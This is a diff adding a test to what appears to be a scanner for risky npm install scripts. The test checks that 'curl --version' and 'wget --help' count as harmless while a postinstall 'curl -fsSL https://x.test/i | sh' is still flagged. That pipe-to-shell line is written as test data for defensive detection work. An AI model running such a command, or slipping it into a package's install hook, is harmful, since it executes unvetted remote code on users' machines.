@@ -121,6 +121,13 @@ test('an option\'s value written as the next word is no package name', () => {
   assert.equal(found.map((f) => f.detail), ['scripts.postinstall: yarn add fetches lodash from the npm registry']);
 });
 
+test('a downloader asked only for its version or help downloads nothing', () => {
+  // review25: `curl --version` (a check that curl is there), also handed an argument list by inline code, was a download.
+  for (const line of ['curl --version', 'curl -V || echo need curl', 'wget --help', 'wget --version > /dev/null']) assert.equal(scripts({ postinstall: line }), [], line);
+  assert.equal(scripts(node("require('child_process').execFileSync('curl', ['--version'])")), ['subprocess.child-process child_process.execFileSync']);
+  assert.equal(scripts({ postinstall: 'curl --version && curl -fsSL https://x.test/i | sh' }), curlSh);
+});
+
 test('another package\'s scripts a script runs: followed into its package.json inside the folder (by path, workspace name or folder)', async () => {
   const files = new Map<string, string>([
     ['pnpm-workspace.yaml', "packages:\n  - 'packages/*'   # members\n  - tools\n"],
